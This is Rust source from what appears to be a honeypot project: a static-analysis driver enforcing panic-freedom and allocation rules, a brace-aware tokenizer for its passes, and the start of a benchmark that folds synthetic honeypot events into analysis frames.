/// `append_locked` (fn-scope tag in events.rs), the latency shaper's
/// draw path, and the error-catalog render path.
pub const HOT_PATH_EXPECTED: [&str; 11] = [
    "crates/decoy-wire/src/http.rs",
    "crates/decoy-wire/src/mongo.rs",
    "crates/decoy-wire/src/mysql.rs",
    "crates/decoy-wire/src/pgwire.rs",
    "crates/decoy-wire/src/resp.rs",
    "crates/decoy-wire/src/tds.rs",
    "crates/decoy-store/src/journal/decode.rs",
    "crates/decoy-net/src/codec.rs",
    "crates/decoy-store/src/events.rs",
    // per-response latency shaping runs inside every session loop
    "crates/decoy-net/src/latency.rs",
    // the shared error catalog renders on every scripted error response
    "crates/decoy-honeypots/src/catalog.rs",
];

/// True when the panic-freedom rule set applies to `rel`
/// (workspace-relative, `/`-separated).
pub fn is_enforced(rel: &str) -> bool {
    ENFORCED_PREFIXES.iter().any(|p| rel.starts_with(p)) || ENFORCED_FILES.contains(&rel)
}

/// What `analyze` produces: fresh findings (post-baseline) plus the
/// bookkeeping the report and exit code are built from.
pub struct Outcome {
    /// Findings not covered by the baseline — these fail the run.
    pub findings: Vec<Finding>,
    /// Findings suppressed by baseline entries.
    pub suppressed: usize,
    /// Baseline budget left over (code was fixed; baseline needs a regen).
    pub stale_baseline: usize,
    /// Rendered unified JSON report.
    pub json: String,
    /// Set when `--write-baseline` rewrote the baseline file.
    pub wrote_baseline: Option<PathBuf>,
}

/// Options for one `analyze` run.
pub struct Options {
    pub root: PathBuf,
    /// Apply `ANALYSIS_BASELINE.json` when present (`--no-baseline` turns
    /// this off for a raw view).
    pub use_baseline: bool,
    /// Regenerate the baseline from the current findings instead of
    /// failing on them.
    pub write_baseline: bool,
}

/// All `.rs` files under `dir`, recursively, sorted for stable output.
fn rust_files(dir: &Path, out: &mut Vec<PathBuf>) -> std::io::Result<()> {
    let mut entries: Vec<_> = std::fs::read_dir(dir)?.collect::<Result<_, _>>()?;
    entries.sort_by_key(|e| e.file_name());
    for entry in entries {
        let path = entry.path();
        if path.is_dir() {
            rust_files(&path, out)?;
        } else if path.extension().is_some_and(|e| e == "rs") {
            out.push(path);
        }
    }
    Ok(())
}

/// The workspace-relative, `/`-separated form of `path`.
fn rel_of(root: &Path, path: &Path) -> String {
    path.strip_prefix(root)
        .unwrap_or(path)
        .components()
        .map(|c| c.as_os_str().to_string_lossy().into_owned())
        .collect::<Vec<_>>()
        .join("/")
}

/// Every crate `src/` dir in the workspace (top-level `src/` included).
fn crate_src_dirs(root: &Path) -> Result<Vec<PathBuf>, String> {
    let mut dirs = vec![root.join("src")];
    let crates_dir = root.join("crates");
    if crates_dir.is_dir() {
        let mut entries: Vec<_> = std::fs::read_dir(&crates_dir)
            .map_err(|e| format!("read {}: {e}", crates_dir.display()))?
            .collect::<Result<_, _>>()
            .map_err(|e| format!("read {}: {e}", crates_dir.display()))?;
        entries.sort_by_key(|e| e.file_name());
        for entry in entries {
            dirs.push(entry.path().join("src"));
        }
    }
    Ok(dirs)
}

/// Run every pass over the workspace at `root` and apply the baseline.
pub fn run(opts: &Options) -> Result<Outcome, String> {
    let root = &opts.root;
    // a mistyped --root must not report success over an empty walk
    if !root.join("Cargo.toml").is_file() {
        return Err(format!(
            "{} is not a workspace root (no Cargo.toml)",
            root.display()
        ));
    }

    // ---- gather sources
    let mut files = Vec::new();
    let mut findings: Vec<Finding> = Vec::new();
    for src_dir in crate_src_dirs(root)? {
        if !src_dir.is_dir() {
            continue;
        }
        rust_files(&src_dir, &mut files).map_err(|e| format!("walk {}: {e}", src_dir.display()))?;
        // crate-root unsafe wall applies to every crate, enforced or not
        for rootfile in ["lib.rs", "main.rs"] {
            let candidate = src_dir.join(rootfile);
            if candidate.is_file() {
                let rel = rel_of(root, &candidate);
                let src =
                    std::fs::read_to_string(&candidate).map_err(|e| format!("read {rel}: {e}"))?;
                findings.extend(lint::check_forbid_unsafe(&rel, &src));
            }
        }
    }
    files.sort();
    files.dedup();
    let mut sources: Vec<SourceFile> = Vec::new();
    for path in &files {
        let rel = rel_of(root, path);
        // the analyzer does not scan itself: its source is saturated with
        // rule-pattern literals (docs, test fixtures, directive strings)
        // that would self-match; its correctness is covered by its own
        // unit/integration suite instead (the crate-root unsafe wall above
        // still applies)
        if rel.starts_with("crates/decoy-xtask/src/") {
            continue;
        }
        let src = std::fs::read_to_string(path).map_err(|e| format!("read {rel}: {e}"))?;
        sources.push(SourceFile::new(&rel, &src));
    }

    // ---- per-file passes
    for sf in &sources {
        findings.extend(sf.bad_allows.iter().cloned());
        if is_enforced(&sf.rel) {
            findings.extend(lint::check(sf));
        }
        findings.extend(alloc::check(sf));
    }
    // hot-path tag registry
    for expected in HOT_PATH_EXPECTED {
        let Some(sf) = sources.iter().find(|sf| sf.rel == expected) else {
            continue; // file moved/removed: the registry is updated with it
        };
        if !alloc::has_tag(sf) {
            findings.push(Finding {
                file: expected.to_string(),
                line: 1,
                col: 1,
                rule: "hot-path-tag-missing",
                pass: "alloc",
                message: "this file is in the hot-path registry but carries no \
                          `decoy-hot-path:` tag; re-tag it (or remove it from \
                          HOT_PATH_EXPECTED with a review)"
                    .to_string(),
            });
        }
    }

    // ---- lock discipline over net+store+core as one program
    let lock_sources: Vec<&SourceFile> = sources
        .iter()
        .filter(|sf| LOCK_SCOPE.iter().any(|p| sf.rel.starts_with(p)))
        .collect();
    findings.extend(locks::check(&lock_sources));

    // ---- bench freshness
    let mut bench_files: Vec<(String, String)> = Vec::new();
    let mut entries: Vec<_> = std::fs::read_dir(root)
        .map_err(|e| format!("read {}: {e}", root.display()))?
        .collect::<Result<_, _>>()
        .map_err(|e| format!("read {}: {e}", root.display()))?;
    entries.sort_by_key(|e| e.file_name());
    for entry in entries {
        let name = entry.file_name().to_string_lossy().into_owned();
        if name.starts_with("BENCH_") && name.ends_with(".json") {
            let src =
                std::fs::read_to_string(entry.path()).map_err(|e| format!("read {name}: {e}"))?;
            bench_files.push((name, src));
        }
    }
    let changes = std::fs::read_to_string(root.join("CHANGES.md")).unwrap_or_default();
    findings.extend(bench::check(&bench_files, bench::current_pr(&changes)));

    findings
        .sort_by(|x, y| (&x.file, x.line, x.col, x.rule).cmp(&(&y.file, y.line, y.col, y.rule)));

    // ---- baseline
    // key: the trimmed text of the finding's line, looked up in whichever
    // corpus the finding came from
    let mut texts: HashMap<String, String> = HashMap::new();
    for sf in &sources {
        texts.insert(sf.rel.clone(), sf.src.clone());
    }
    for (rel, src) in &bench_files {
        texts.insert(rel.clone(), src.clone());
    }
    let key_of = |f: &Finding| -> String {
        texts
            .get(&f.file)
            .and_then(|src| src.lines().nth(f.line.saturating_sub(1)))
            .unwrap_or_default()
            .trim()
            .to_string()
    };
    let baseline_path = root.join("ANALYSIS_BASELINE.json");

    if opts.write_baseline {
        let keyed: Vec<(Finding, String)> = findings
            .into_iter()
            .map(|f| (f.clone(), key_of(&f)))
            .collect();
        let baseline = Baseline::from_findings(keyed.iter().map(|(f, k)| (f, k.as_str())));
        // ratchet: a regeneration may hold or shrink the hot-path
        // allocation budget, never grow it back
        if baseline_path.is_file() {
            let old_text = std::fs::read_to_string(&baseline_path)
                .map_err(|e| format!("read {}: {e}", baseline_path.display()))?;
            if let Ok(old) = Baseline::parse(&old_text) {
                let (was, now) = (old.alloc_budget(), baseline.alloc_budget());
                if now > was {
                    return Err(format!(
                        "refusing to write baseline: the hot-path allocation budget would \
                         grow from {was} to {now}; burn the new allocations down (see the \
                         alloc pass findings) instead of re-baselining them"
                    ));
                }
            }
        }
        std::fs::write(&baseline_path, baseline.render())
            .map_err(|e| format!("write {}: {e}", baseline_path.display()))?;
        let json = report_json(&[], keyed.len(), 0);
        return Ok(Outcome {
            findings: Vec::new(),
            suppressed: keyed.len(),
            stale_baseline: 0,
            json,
            wrote_baseline: Some(baseline_path),
        });
    }

    let (fresh, suppressed, stale_baseline) = if opts.use_baseline && baseline_path.is_file() {
        let text = std::fs::read_to_string(&baseline_path)
            .map_err(|e| format!("read {}: {e}", baseline_path.display()))?;
        let baseline =
            Baseline::parse(&text).map_err(|e| format!("{}: {e}", baseline_path.display()))?;
        baseline.apply(findings, key_of)
    } else {
        (findings, 0, 0)
    };
    let json = report_json(&fresh, suppressed, stale_baseline);
    Ok(Outcome {
        findings: fresh,
        suppressed,
        stale_baseline,
        json,
        wrote_baseline: None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn enforced_set_covers_the_byte_path() {
        assert!(is_enforced("crates/decoy-wire/src/pgwire.rs"));
        assert!(is_enforced("crates/decoy-wire/src/mongo/bson.rs"));
        assert!(is_enforced("crates/decoy-honeypots/src/low.rs"));
        assert!(is_enforced("crates/decoy-net/src/codec.rs"));
        assert!(is_enforced("crates/decoy-net/src/supervisor.rs"));
        assert!(is_enforced("crates/decoy-net/src/chaos.rs"));
        assert!(is_enforced("crates/decoy-store/src/events.rs"));
        assert!(is_enforced("crates/decoy-store/src/journal/decode.rs"));
        assert!(is_enforced("crates/decoy-store/src/journal/stream.rs"));
        assert!(is_enforced("crates/decoy-net/src/latency.rs"));
        assert!(is_enforced("crates/decoy-fingerprint/src/probes.rs"));
        // the journal write path never parses untrusted bytes
        assert!(!is_enforced("crates/decoy-store/src/journal/encode.rs"));
        // analysis/reporting code is out of scope
        assert!(!is_enforced("crates/decoy-analysis/src/lib.rs"));
        assert!(!is_enforced("crates/decoy-net/src/time.rs"));
        assert!(!is_enforced("src/main.rs"));
    }

    #[test]
    fn lock_scope_is_the_three_serving_crates() {
        assert!(LOCK_SCOPE
            .iter()
            .any(|p| "crates/decoy-net/src/supervisor.rs".starts_with(p)));
        assert!(LOCK_SCOPE
            .iter()
            .any(|p| "crates/decoy-store/src/events.rs".starts_with(p)));
        assert!(LOCK_SCOPE
            .iter()
            .any(|p| "crates/decoy-core/src/runner.rs".starts_with(p)));
        assert!(!LOCK_SCOPE
            .iter()
            .any(|p| "crates/decoy-analysis/src/frame.rs".starts_with(p)));
    }

    #[test]
    fn hot_path_registry_names_the_decoders() {
        for f in [
            "crates/decoy-wire/src/mysql.rs",
            "crates/decoy-wire/src/resp.rs",
            "crates/decoy-store/src/journal/decode.rs",
            "crates/decoy-net/src/codec.rs",
            "crates/decoy-store/src/events.rs",
            "crates/decoy-net/src/latency.rs",
            "crates/decoy-honeypots/src/catalog.rs",
        ] {
            assert!(HOT_PATH_EXPECTED.contains(&f), "{f} missing from registry");
        }
    }
}
