//! The shared brace-aware tokenizer every analysis pass is built on.
//!
//! `decoy-xtask` deliberately has no dependencies, so this is not a real
//! Rust parser — it is the smallest token model that lets the passes reason
//! about *structure* instead of raw text:
//!
//! 1. [`strip`] blanks comments, string/char literals, and raw strings while
//!    preserving every byte position and newline, so spans computed on the
//!    stripped text map 1:1 onto the original file.
//! 2. [`tokenize`] turns the stripped text into a flat stream of
//!    identifiers, lifetimes, and single-byte punctuation, each carrying its
//!    byte span and 1-based line/column.
//! 3. [`functions`] recovers `fn` items (name, `async`-ness, brace-matched
//!    body extent in token indices) so passes can attribute findings and
//!    build call graphs.
//! 4. [`test_mask`] marks lines covered by `#[cfg(test)]` / `#[test]` items
//!    so production-only rules skip test code.
//!
//! Known (documented) approximations: macro bodies are tokenized like
//! ordinary code, `.await` points hidden behind macros (`tokio::select!`
//! arms) are invisible, and brace-carrying const-generic expressions inside
//! signatures can confuse body detection. All passes treat the model as
//! best-effort and pair it with an escape hatch + suppression baseline.

/// One lexical token over the stripped source.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Tok {
    /// Token kind.
    pub kind: TokKind,
    /// Byte offset of the token start in the (stripped == original) text.
    pub pos: usize,
    /// Byte length.
    pub len: usize,
    /// 1-based line number.
    pub line: usize,
    /// 1-based column (byte offset within the line, plus one).
    pub col: usize,
}

/// What a [`Tok`] is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TokKind {
    /// Identifier, keyword, or numeric literal (`foo`, `fn`, `42`).
    Ident,
    /// A lifetime (`'a`) — kept distinct so `&'a [u8]` never reads as
    /// indexing and lifetimes never read as char literals.
    Lifetime,
    /// A single punctuation byte (`.`, `(`, `{`, `;`, …).
    Punct(u8),
}

impl Tok {
    /// The token's text, sliced out of the same string it was lexed from.
    pub fn text<'a>(&self, src: &'a str) -> &'a str {
        src.get(self.pos..self.pos + self.len).unwrap_or_default()
    }

    /// True when the token is the identifier `word`.
    pub fn is_ident(&self, src: &str, word: &str) -> bool {
        self.kind == TokKind::Ident && self.text(src) == word
    }
}

fn is_ident_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Replace comments, string literals, and char literals with spaces,
/// preserving every byte position and all newlines. Handles nested block
/// comments, raw strings (`r"..."`, `r#"..."#`, `br#"..."#`), byte strings,
/// escapes, and distinguishes char literals from lifetimes.
pub fn strip(src: &str) -> String {
    let b = src.as_bytes();
    let mut out = b.to_vec();
    let blank = |out: &mut [u8], range: std::ops::Range<usize>| {
        for slot in out.get_mut(range).unwrap_or_default() {
            if *slot != b'\n' {
                *slot = b' ';
            }
        }
    };
    let mut i = 0usize;
    while i < b.len() {
        let c = b.get(i).copied().unwrap_or(0);
        let next = b.get(i + 1).copied().unwrap_or(0);
        // line comment
        if c == b'/' && next == b'/' {
            let start = i;
            while i < b.len() && b.get(i) != Some(&b'\n') {
                i += 1;
            }
            blank(&mut out, start..i);
            continue;
        }
        // block comment (nestable)
        if c == b'/' && next == b'*' {
            let start = i;
            let mut depth = 1u32;
            i += 2;
            while i < b.len() && depth > 0 {
                if b.get(i) == Some(&b'/') && b.get(i + 1) == Some(&b'*') {
                    depth += 1;
                    i += 2;
                } else if b.get(i) == Some(&b'*') && b.get(i + 1) == Some(&b'/') {
                    depth -= 1;
                    i += 2;
                } else {
                    i += 1;
                }
            }
            blank(&mut out, start..i);
            continue;
        }
        // raw / byte string prefixes: r", r#", b", br#", rb is invalid
        let prev_is_ident = i > 0 && b.get(i - 1).copied().is_some_and(is_ident_byte);
        if !prev_is_ident && (c == b'r' || c == b'b') {
            let mut j = i + 1;
            let mut raw = c == b'r';
            if c == b'b' && b.get(j) == Some(&b'r') {
                raw = true;
                j += 1;
            }
            if raw {
                let mut hashes = 0usize;
                while b.get(j) == Some(&b'#') {
                    hashes += 1;
                    j += 1;
                }
                if b.get(j) == Some(&b'"') {
                    // raw string: scan for `"` + hashes `#`s
                    let start = i;
                    j += 1;
                    loop {
                        match b.get(j) {
                            None => break,
                            Some(&b'"') => {
                                let mut k = j + 1;
                                let mut seen = 0usize;
                                while seen < hashes && b.get(k) == Some(&b'#') {
                                    seen += 1;
                                    k += 1;
                                }
                                if seen == hashes {
                                    j = k;
                                    break;
                                }
                                j += 1;
                            }
                            _ => j += 1,
                        }
                    }
                    blank(&mut out, start..j);
                    i = j;
                    continue;
                }
                // `r#ident` (raw identifier) or bare `r`: leave as-is
                i += 1;
                continue;
            }
            // c == 'b': byte string b"..." or byte char b'...'
            if b.get(i + 1) == Some(&b'"') || b.get(i + 1) == Some(&b'\'') {
                // blank the prefix so `b"x"[..]` cannot read as indexing,
                // then fall through on the quote
                if let Some(slot) = out.get_mut(i) {
                    *slot = b' ';
                }
                i += 1;
                continue;
            }
            i += 1;
            continue;
        }
        // string literal
        if c == b'"' {
            let start = i;
            i += 1;
            while i < b.len() {
                match b.get(i) {
                    Some(&b'\\') => i += 2,
                    Some(&b'"') => {
                        i += 1;
                        break;
                    }
                    _ => i += 1,
                }
            }
            blank(&mut out, start..i);
            continue;
        }
        // char literal vs lifetime
        if c == b'\'' {
            if next == b'\\' {
                // escaped char literal: consume to closing quote
                let start = i;
                i += 2;
                while i < b.len() && b.get(i) != Some(&b'\'') {
                    if b.get(i) == Some(&b'\\') {
                        i += 1;
                    }
                    i += 1;
                }
                i = (i + 1).min(b.len());
                blank(&mut out, start..i);
                continue;
            }
            // 'x' (possibly multibyte) closed by a quote within 4 bytes
            let mut close = None;
            for k in (i + 2)..(i + 6).min(b.len()) {
                if b.get(k) == Some(&b'\'') {
                    close = Some(k);
                    break;
                }
            }
            // only treat as a char literal when exactly one char sits
            // between the quotes; `'a` in `<'a, 'b>` has no adjacent close
            // (or closes around multiple chars) and stays a lifetime
            if let Some(k) = close {
                let inner = b.get(i + 1..k).unwrap_or_default();
                let one_char = std::str::from_utf8(inner)
                    .map(|s| s.chars().count() == 1)
                    .unwrap_or(false);
                if one_char {
                    blank(&mut out, i..k + 1);
                    i = k + 1;
                    continue;
                }
            }
            i += 1;
            continue;
        }
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Tokenize *stripped* source (see [`strip`]) into a flat token stream.
///
/// Idents bundle `[A-Za-z0-9_]+` runs (so numeric literals are `Ident`s
/// too); `'ident` not closed as a char literal (the stripper already blanked
/// those) becomes a [`TokKind::Lifetime`]; every other non-whitespace byte
/// is a single [`TokKind::Punct`].
pub fn tokenize(stripped: &str) -> Vec<Tok> {
    let b = stripped.as_bytes();
    let mut toks = Vec::new();
    let mut line = 1usize;
    let mut line_start = 0usize;
    let mut i = 0usize;
    while i < b.len() {
        let c = b.get(i).copied().unwrap_or(0);
        if c == b'\n' {
            line += 1;
            i += 1;
            line_start = i;
            continue;
        }
        if c == b' ' || c == b'\t' || c == b'\r' {
            i += 1;
            continue;
        }
        let col = i - line_start + 1;
        if is_ident_byte(c) {
            let start = i;
            while i < b.len() && b.get(i).copied().is_some_and(is_ident_byte) {
                i += 1;
            }
            toks.push(Tok {
                kind: TokKind::Ident,
                pos: start,
                len: i - start,
                line,
                col,
            });
            continue;
        }
        if c == b'\'' && b.get(i + 1).copied().is_some_and(is_ident_byte) {
            // a lifetime: the stripper leaves `'a` intact only when it is
            // not a char literal
            let start = i;
            i += 1;
            while i < b.len() && b.get(i).copied().is_some_and(is_ident_byte) {
                i += 1;
            }
            toks.push(Tok {
                kind: TokKind::Lifetime,
                pos: start,
                len: i - start,
                line,
                col,
            });
            continue;
        }
        toks.push(Tok {
            kind: TokKind::Punct(c),
            pos: i,
            len: 1,
            line,
            col,
        });
        i += 1;
    }
    toks
}

/// One `fn` item recovered from the token stream.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FnItem {
    /// The function's name.
    pub name: String,
    /// Token index of the name identifier.
    pub name_tok: usize,
    /// 1-based line of the `fn` keyword.
    pub line: usize,
    /// True when the nearest preceding modifiers include `async`.
    pub is_async: bool,
    /// `(open, close)` token indices of the body braces; `None` for
    /// bodyless declarations (trait methods, extern fns).
    pub body: Option<(usize, usize)>,
}

/// Recover every `fn` item (including nested ones) from `toks`.
///
/// Scanning is linear and does not skip bodies, so nested functions get
/// their own entries; use [`enclosing_fn`] for innermost attribution.
pub fn functions(toks: &[Tok], src: &str) -> Vec<FnItem> {
    let mut out = Vec::new();
    for i in 0..toks.len() {
        let Some(t) = toks.get(i) else { continue };
        if !t.is_ident(src, "fn") {
            continue;
        }
        let Some(name_t) = toks.get(i + 1) else {
            continue;
        };
        if name_t.kind != TokKind::Ident {
            continue; // `fn(` — a function-pointer type, not an item
        }
        // modifiers: scan back a few tokens for `async`, stopping at
        // item/statement boundaries
        let mut is_async = false;
        let mut k = i;
        for _ in 0..8 {
            if k == 0 {
                break;
            }
            k -= 1;
            match toks.get(k) {
                Some(m) if m.is_ident(src, "async") => {
                    is_async = true;
                    break;
                }
                Some(m) if matches!(m.kind, TokKind::Punct(b';' | b'{' | b'}')) => break,
                _ => {}
            }
        }
        // body: first `{` or `;` after the name
        let mut body = None;
        let mut j = i + 2;
        while let Some(tj) = toks.get(j) {
            match tj.kind {
                TokKind::Punct(b';') => break,
                TokKind::Punct(b'{') => {
                    // brace-match to the close
                    let mut depth = 0i64;
                    let mut kk = j;
                    while let Some(tk) = toks.get(kk) {
                        match tk.kind {
                            TokKind::Punct(b'{') => depth += 1,
                            TokKind::Punct(b'}') => {
                                depth -= 1;
                                if depth == 0 {
                                    body = Some((j, kk));
                                    break;
                                }
                            }
                            _ => {}
                        }
                        kk += 1;
                    }
                    break;
                }
                _ => {}
            }
            j += 1;
        }
        out.push(FnItem {
            name: name_t.text(src).to_string(),
            name_tok: i + 1,
            line: t.line,
            is_async,
            body,
        });
    }
    out
}

/// Index (into `fns`) of the innermost function whose body contains token
/// `tok_idx`, if any.
pub fn enclosing_fn(fns: &[FnItem], tok_idx: usize) -> Option<usize> {
    let mut best: Option<(usize, usize)> = None; // (span, fns index)
    for (fi, f) in fns.iter().enumerate() {
        if let Some((open, close)) = f.body {
            if tok_idx > open && tok_idx < close {
                let span = close - open;
                if best.map(|(s, _)| span < s).unwrap_or(true) {
                    best = Some((span, fi));
                }
            }
        }
    }
    best.map(|(_, fi)| fi)
}

/// Mark lines (0-based) covered by `#[cfg(test)]` or `#[test]` items in
/// *stripped* source.
pub fn test_mask(masked: &str) -> Vec<bool> {
    let lines: Vec<&str> = masked.lines().collect();
    let mut in_test = vec![false; lines.len()];
    let mut i = 0usize;
    while i < lines.len() {
        let l = lines.get(i).copied().unwrap_or_default();
        if !(l.contains("#[cfg(test)]") || l.contains("#[test]")) {
            i += 1;
            continue;
        }
        // find the body start: first `{` before a bare `;`
        let mut j = i;
        let mut body = None;
        while j < lines.len() {
            let lj = lines.get(j).copied().unwrap_or_default();
            match (lj.find('{'), lj.find(';')) {
                (Some(b), Some(s)) if s < b => break, // item without body
                (Some(_), _) => {
                    body = Some(j);
                    break;
                }
                (None, Some(_)) => break,
                (None, None) => j += 1,
            }
        }
        let Some(start) = body else {
            i += 1;
            continue;
        };
        let mut depth = 0i64;
        let mut k = start;
        while k < lines.len() {
            for ch in lines.get(k).copied().unwrap_or_default().chars() {
                match ch {
                    '{' => depth += 1,
                    '}' => depth -= 1,
                    _ => {}
                }
            }
            if let Some(slot) = in_test.get_mut(k) {
                *slot = true;
            }
            if depth <= 0 {
                break;
            }
            k += 1;
        }
        for idx in i..start {
            if let Some(slot) = in_test.get_mut(idx) {
                *slot = true;
            }
        }
        i = k + 1;
    }
    in_test
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(src: &str) -> Vec<String> {
        let stripped = strip(src);
        tokenize(&stripped)
            .iter()
            .filter(|t| t.kind == TokKind::Ident)
            .map(|t| t.text(&stripped).to_string())
            .collect()
    }

    #[test]
    fn strip_blanks_strings_and_comments() {
        let src = "let x = \"a[0].unwrap()\"; // .unwrap()\nlet y = 1;";
        let s = strip(src);
        assert!(!s.contains("unwrap"));
        assert!(s.contains("let y = 1;"));
        assert_eq!(s.len(), src.len()); // positions preserved
    }

    #[test]
    fn strip_handles_nested_block_comments() {
        let src = "a /* outer /* inner */ still comment */ b";
        let s = strip(src);
        assert!(!s.contains("inner"));
        assert!(!s.contains("still"));
        assert!(s.starts_with('a'));
        assert!(s.ends_with('b'));
    }

    #[test]
    fn strip_handles_raw_and_byte_strings() {
        let s = strip(r##"let a = r#"x.unwrap()"#; let b = b"p[1]"; let c = br#"q[2]"#;"##);
        assert!(!s.contains("unwrap"));
        assert!(!s.contains("p[1]"));
        assert!(!s.contains("q[2]"));
    }

    #[test]
    fn strip_handles_raw_strings_with_inner_quotes() {
        let src = "let a = r#\"she said \"hi\" to him\"#; let live = 1;";
        let s = strip(src);
        assert!(!s.contains("said"));
        assert!(s.contains("let live = 1;"));
    }

    #[test]
    fn strip_keeps_lifetimes_but_blanks_chars() {
        let s = strip("fn f<'a>(x: &'a [u8]) -> char { 'x' }");
        assert!(s.contains("'a [u8]"));
        assert!(!s.contains("'x'"));
        let s = strip("let c = '\\n'; let d = '\\'';");
        assert!(!s.contains("\\n"));
    }

    #[test]
    fn strip_keeps_multiple_lifetimes_intact() {
        let src = "fn f<'a, 'b>(x: &'a [u8], y: &'b [u8]) {}";
        assert_eq!(strip(src), src);
    }

    #[test]
    fn tokenize_kinds_and_positions() {
        let stripped = strip("let x = a.b;\ny(z)");
        let toks = tokenize(&stripped);
        let texts: Vec<(&str, TokKind)> =
            toks.iter().map(|t| (t.text(&stripped), t.kind)).collect();
        assert_eq!(
            texts,
            vec![
                ("let", TokKind::Ident),
                ("x", TokKind::Ident),
                ("=", TokKind::Punct(b'=')),
                ("a", TokKind::Ident),
                (".", TokKind::Punct(b'.')),
                ("b", TokKind::Ident),
                (";", TokKind::Punct(b';')),
                ("y", TokKind::Ident),
                ("(", TokKind::Punct(b'(')),
                ("z", TokKind::Ident),
                (")", TokKind::Punct(b')')),
            ]
        );
        let y = toks.iter().find(|t| t.text(&stripped) == "y").unwrap();
        assert_eq!((y.line, y.col), (2, 1));
    }

    #[test]
    fn tokenize_lifetimes_are_distinct() {
        let stripped = strip("fn f<'a>(x: &'a [u8]) {}");
        let toks = tokenize(&stripped);
        let lt: Vec<&str> = toks
            .iter()
            .filter(|t| t.kind == TokKind::Lifetime)
            .map(|t| t.text(&stripped))
            .collect();
        assert_eq!(lt, vec!["'a", "'a"]);
    }

    #[test]
    fn tokenize_char_literals_do_not_become_lifetimes() {
        assert_eq!(words("let c = 'x'; done()"), vec!["let", "c", "done"]);
    }

    #[test]
    fn functions_recovers_names_bodies_and_asyncness() {
        let src = "pub async fn go(x: u8) { inner(); }\nfn plain() -> u8 { 0 }\nfn decl();";
        let stripped = strip(src);
        let toks = tokenize(&stripped);
        let fns = functions(&toks, &stripped);
        assert_eq!(fns.len(), 3);
        assert_eq!(fns[0].name, "go");
        assert!(fns[0].is_async);
        assert!(fns[0].body.is_some());
        assert_eq!(fns[1].name, "plain");
        assert!(!fns[1].is_async);
        assert_eq!(fns[2].name, "decl");
        assert!(fns[2].body.is_none());
    }

    #[test]
    fn functions_brace_matching_skips_nested_blocks() {
        let src = "fn outer() { if x { y(); } loop { break; } }\nfn after() {}";
        let stripped = strip(src);
        let toks = tokenize(&stripped);
        let fns = functions(&toks, &stripped);
        assert_eq!(fns.len(), 2);
        let (open, close) = fns[0].body.unwrap();
        // the close brace of `outer` is the last `}` before `fn after`
        assert!(toks[close].pos > toks[open].pos);
        assert!(toks[close].pos < toks[fns[1].name_tok].pos);
    }

    #[test]
    fn fn_pointer_types_are_not_items() {
        let src = "type F = fn(u8) -> u8;\nfn real() {}";
        let stripped = strip(src);
        let fns = functions(&tokenize(&stripped), &stripped);
        assert_eq!(fns.len(), 1);
        assert_eq!(fns[0].name, "real");
    }

    #[test]
    fn enclosing_fn_picks_innermost() {
        let src = "fn outer() { fn inner() { mark(); } }";
        let stripped = strip(src);
        let toks = tokenize(&stripped);
        let fns = functions(&toks, &stripped);
        let mark = toks
            .iter()
            .position(|t| t.is_ident(&stripped, "mark"))
            .unwrap();
        let fi = enclosing_fn(&fns, mark).unwrap();
        assert_eq!(fns[fi].name, "inner");
    }

    #[test]
    fn test_mask_covers_test_modules() {
        let masked = strip(
            "fn prod() {}\n#[cfg(test)]\nmod tests {\n    fn t() { x(); }\n}\nfn prod2() {}\n",
        );
        let mask = test_mask(&masked);
        assert!(!mask[0]);
        assert!(mask[1] && mask[2] && mask[3] && mask[4]);
        assert!(!mask[5]);
    }
}
