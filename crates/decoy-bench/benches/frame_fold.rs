//! Batch frame build vs fold-and-merge over segment-sized chunks, across
//! event counts spanning three orders of magnitude. Three measurements per
//! size:
//!
//! * `batch_build` — `AnalysisFrame::build` over the whole store at once
//!   (the pre-streaming baseline, one full scan)
//! * `fold_merge_seal` — cut the same stream into 64k-event chunks, fold
//!   each into a [`PartialFrame`], reduce with `merge`, then `seal` — the
//!   work the streaming report paths do per journal segment
//! * `merge_only` — re-merge pre-folded partials (the shard-join operator
//!   in isolation, without the per-event fold cost)
//!
//! Results are recorded in `BENCH_fold.json` at the repo root.
//!
//! Run: `cargo bench -p decoy-bench --bench frame_fold`

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use decoy_analysis::fold::PartialFrame;
use decoy_analysis::frame::AnalysisFrame;
use decoy_bench::BENCH_SEED;
use decoy_geo::{GeoDb, GeoEnricher};
use decoy_store::{
    ConfigVariant, Dbms, Event, EventKind, EventStore, HoneypotId, InteractionLevel,
};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::hint::black_box;
use std::net::{IpAddr, Ipv4Addr};

/// Synthetic capture shaped like the real log mix (same generator shape as
/// the journal_ingest bench, so the two suites describe one pipeline).
fn synthetic_events(n: usize) -> Vec<Event> {
    let mut rng = StdRng::seed_from_u64(BENCH_SEED);
    let dbms = [Dbms::Redis, Dbms::MySql, Dbms::Postgres, Dbms::Mssql];
    (0..n)
        .map(|i| {
            let kind = match rng.gen_range(0..10) {
                0..=2 => EventKind::Connect,
                3..=4 => EventKind::Disconnect,
                5..=7 => EventKind::Command {
                    action: format!("ACTION_{}", rng.gen_range(0..48)),
                    raw: format!("command body {i} with arguments"),
                },
                8 => EventKind::LoginAttempt {
                    username: "root".into(),
                    password: format!("pw{}", rng.gen_range(0..1000)),
                    success: false,
                },
                _ => EventKind::Payload {
                    len: rng.gen_range(16..512),
                    recognized: None,
                    preview: "\\x03\\x00\\x00\\x13".into(),
                },
            };
            Event {
                ts: decoy_net::time::EXPERIMENT_START.add_millis(i as u64),
                honeypot: HoneypotId::new(
                    dbms[i % dbms.len()],
                    if i % 3 == 0 {
                        InteractionLevel::Low
                    } else {
                        InteractionLevel::Medium
                    },
                    ConfigVariant::Default,
                    0,
                ),
                src: IpAddr::V4(Ipv4Addr::from(rng.gen::<u32>() % 4096)),
                session: (i / 8) as u64,
                kind,
            }
        })
        .collect()
}

/// Fold `events` into per-chunk partials anchored at their global offsets.
fn fold_chunks(events: &[Event], enricher: &GeoEnricher) -> Vec<PartialFrame> {
    events
        .chunks(65_536)
        .enumerate()
        .map(|(i, chunk)| {
            let mut partial = PartialFrame::new((i * 65_536) as u64);
            for event in chunk {
                partial.push(event, enricher);
            }
            partial
        })
        .collect()
}

fn bench(c: &mut Criterion) {
